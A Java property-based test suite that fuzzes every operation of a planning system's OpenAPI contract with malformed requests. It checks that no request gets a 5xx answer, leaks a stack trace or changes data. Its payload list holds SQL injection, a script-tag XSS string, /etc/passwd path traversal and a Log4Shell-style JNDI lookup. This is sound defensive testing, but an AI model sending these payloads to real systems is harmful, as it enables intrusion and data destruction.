package org.jiulongpo.plan.system;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * Hostile input, generated from the contract: every operation of docs/openapi.yaml gets wrong
 * types, huge and negative numbers, NaN, very long and non-UTF-8 strings, SQL and script
 * payloads, unknown fields, broken JSON, wrong content types, path traversal, bad cursors and
 * dates. The suite must never answer 5xx, every 4xx must be problem+json whose status equals
 * the HTTP status, no body may leak a stack trace or class name, and no data may change.
 */
class HostileInputProperties {

    static final int TRIES = 2200;

    /** An operation of the contract. */
    record Operation(String method, String path, List<String[]> parameters, boolean write) {
    }

    /** One malformed request. */
    record Hostile(Operation operation, String pathValue, String paramName, String paramValue, byte[] body,
            String contentType, String ifMatch) {
    }

    static List<Operation> operations;
    static Http gw;
    static String admin;
    static String indicatorsTagBefore;
    static String projectsTagBefore;
    static final AtomicInteger SENT = new AtomicInteger();
    static final AtomicInteger SERVER_ERRORS = new AtomicInteger();
    static final AtomicInteger NOT_PROBLEMS = new AtomicInteger();
    static final AtomicInteger LEAKS = new AtomicInteger();

    static final List<String> PAYLOADS = List.of("' OR '1'='1", "1; DROP TABLE project; --", "<script>alert(1)</script>",
            "../../../../etc/passwd", "..%2f..%2f", "%00", "\u0000", "NaN", "Infinity", "-1", "0", "-99999999999999999999",
            "99999999999999999999999999999999", "1e309", "2020-13-45", "2024-02-30T25:61:00+99:00", "yesterday", "null",
            "true", "[]", "{}", "长".repeat(5000), "x".repeat(12000), "\uD83D\uDE00", "\uFFFD", "%FF%FE", "${jndi:ldap://x/a}",
            "{{7*7}}", "c1\u001fabc", "Y29tcGxldGVseSBib2d1cw", "fyp14-03/../fyp13-01", " ");

    static final List<String> BODIES = List.of("{", "}", "[1,2,3]", "\"text\"", "12", "null", "{\"year\":\"2023\",\"value\":}",
            "{\"year\":2023,\"value\":NaN}", "{\"year\":2023,\"value\":1e400}", "{\"year\":-5,\"value\":1}",
            "{\"year\":99999999999,\"value\":1}", "{\"year\":2023,\"value\":1,\"admin\":true}",
            "{\"status\":\"done\",\"progressPercent\":101,\"reportedAt\":\"x\"}",
            "{\"status\":\"completed\",\"progressPercent\":-1,\"reportedAt\":\"2024-01-01T00:00:00Z\"}",
            "{\"nameZh\":null,\"latitude\":1000}", "{\"year\":2023,\"value\":\"' OR 1=1 --\"}",
            "{\"note\":\"" + "x".repeat(5000) + "\",\"year\":[]}", "{\"a\":" + "[".repeat(2000) + "]".repeat(2000) + "}",
            "{\"year\":2023,\"year\":2024,\"value\":1}");

    @BeforeContainer
    static void start() throws Exception {
        RunningSuite suite = RunningSuite.get();
        gw = suite.gateway;
        admin = suite.token("plan-admin");
        JsonNode paths = new YAMLMapper().readTree(
                Path.of(System.getProperty("suite.root", "..")).resolve("docs/openapi.yaml").toFile()).get("paths");
        operations = new ArrayList<>();
        paths.fields().forEachRemaining(p -> p.getValue().fields().forEachRemaining(op -> {
            if (!List.of("get", "post", "patch", "delete", "put").contains(op.getKey())) {
                return;
            }
            // a live stream (Server-Sent Events) answers 200 and stays open, so a request here never
            // ends with an answer to judge; the event tests cover its input
            if (op.getValue().path("responses").path("200").path("content").has("text/event-stream")) {
                return;
            }
            List<String[]> params = new ArrayList<>();
            for (JsonNode param : op.getValue().path("parameters")) {
                params.add(new String[] { param.get("name").asText(), param.get("in").asText() });
            }
            operations.add(new Operation(op.getKey().toUpperCase(), p.getKey(), params, !op.getKey().equals("get")));
        }));
        indicatorsTagBefore = gw.get("/api/v1/indicators?limit=500").header("etag");
        projectsTagBefore = gw.get("/api/v1/projects?limit=500").header("etag");
    }

    @Provide
    Arbitrary<Hostile> hostile() {
        Arbitrary<Operation> op = Arbitraries.of(operations);
        Arbitrary<String> payload = Arbitraries.oneOf(Arbitraries.of(PAYLOADS),
                Arbitraries.strings().ofMinLength(0).ofMaxLength(300), Arbitraries.strings().all().ofMaxLength(50));
        Arbitrary<byte[]> body = Arbitraries.oneOf(Arbitraries.of(BODIES).map(b -> b.getBytes(StandardCharsets.UTF_8)),
                Arbitraries.bytes().array(byte[].class).ofMaxSize(200),
                Arbitraries.just(new byte[] { '{', '"', 'y', '"', ':', (byte) 0xC3, (byte) 0x28, '}' }));
        Arbitrary<String> contentType = Arbitraries.of("application/json", "text/plain", "application/xml",
                "application/json; charset=ISO-8859-1", "multipart/form-data; boundary=x", "application/merge-patch+json");
        Arbitrary<String> ifMatch = Arbitraries.of("\"v999999-0\"", "*", "W/\"v0-x\"", "garbage", "\"v99999999999999999999-x\"", "\"h0\"");
        return Combinators.combine(op, payload, payload, body, contentType, ifMatch).as((o, pathValue, paramValue, b, ct, im) -> {
            String paramName = o.parameters().isEmpty() ? "x" : o.parameters().get(Math.floorMod(paramValue.hashCode(),
                    o.parameters().size()))[0];
            return new Hostile(o, pathValue, paramName, paramValue, b, ct, im);
        });
    }

    // A fixed seed: CI sends the same 2,200 requests every time (a failure reproduces); change the
    // seed, or remove it, to explore further.
    @Property(tries = TRIES, seed = "20261128")
    void neverA5xxNeverALeakAlwaysAProblem(@ForAll("hostile") Hostile h) {
        String pathValue = encode(h.pathValue());
        if (pathValue.length() > 20_000) {
            // stay within valid HTTP: the HTTP layer refuses request lines over 64 KiB before any handler
            pathValue = pathValue.substring(0, 20_000).replaceAll("%[0-9A-F]?$", "");
        }
        String path = h.operation().path().replaceAll("\\{[^}]+}", pathValue);
        String paramValue = encode(h.paramValue());
        if (paramValue.length() > 20_000) {
            paramValue = paramValue.substring(0, 20_000).replaceAll("%[0-9A-F]?$", "");
        }
        String query = "?" + encode(h.paramName()) + "=" + paramValue;
        List<String> headers = new ArrayList<>(List.of("Accept-Language", h.paramValue().length() < 100 ? ascii(h.paramValue()) : "zh"));
        if (h.operation().write()) {
            headers.addAll(List.of("Authorization", admin, "Content-Type", h.contentType(), "If-Match", h.ifMatch(),
                    "Idempotency-Key", ascii(h.paramValue()).isEmpty() ? "k" : ascii(h.paramValue())));
        } else if (h.paramName().equals("If-None-Match")) {
            headers.addAll(List.of("If-None-Match", ascii(h.paramValue())));
        }
        Http.Answer a = gw.send(h.operation().method(), path + query, h.operation().write() ? h.body() : null,
                headers.toArray(String[]::new));
        SENT.incrementAndGet();
        if (a.status() >= 500 || a.status() < 0) {
            SERVER_ERRORS.incrementAndGet();
        }
        assertThat(a.status()).as(h.operation().method() + " " + path + query + " answered").isBetween(200, 499);
        if (a.status() >= 400) {
            if (!a.isProblem()) {
                NOT_PROBLEMS.incrementAndGet();
            }
            assertThat(a.isProblem()).as("a problem+json for " + h.operation().method() + " " + path + query + " ("
                    + a.status() + ")").isTrue();
            assertThat(a.json().path("status").asInt()).isEqualTo(a.status());
        }
        String text = a.text();
        boolean leak = text.contains("Exception") || text.contains("\tat ") || text.matches("(?s).*\\b(java|jakarta|org\\.hibernate|io\\.quarkus|org\\.jiulongpo)\\.[a-z]+\\..*");
        if (leak) {
            LEAKS.incrementAndGet();
        }
        assertThat(leak).as("no stack trace or class name in " + text.substring(0, Math.min(300, text.length()))).isFalse();
    }

    @AfterContainer
    static void dataUnchanged() {
        String indicatorsTagAfter = gw.get("/api/v1/indicators?limit=500").header("etag");
        String projectsTagAfter = gw.get("/api/v1/projects?limit=500").header("etag");
        Report.put("hostile input", "requests sent", SENT.get());
        Report.put("hostile input", "operations covered", operations.size());
        Report.put("hostile input", "5xx answers", SERVER_ERRORS.get());
        Report.put("hostile input", "4xx answers not problem+json", NOT_PROBLEMS.get());
        Report.put("hostile input", "bodies leaking a stack trace or class name", LEAKS.get());
        Report.put("hostile input", "data unchanged", indicatorsTagAfter.equals(indicatorsTagBefore)
                && projectsTagAfter.equals(projectsTagBefore));
        assertThat(SENT.get()).isGreaterThanOrEqualTo(2000);
        assertThat(indicatorsTagAfter).as("indicators unchanged").isEqualTo(indicatorsTagBefore);
        assertThat(projectsTagAfter).as("projects unchanged").isEqualTo(projectsTagBefore);
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("%25FF%25FE", "%FF%FE");
    }

    /** Header values must be visible ASCII for the HTTP client; keep what is. */
    static String ascii(String value) {
        return value.replaceAll("[^\\x21-\\x7e]", "");
    }
}
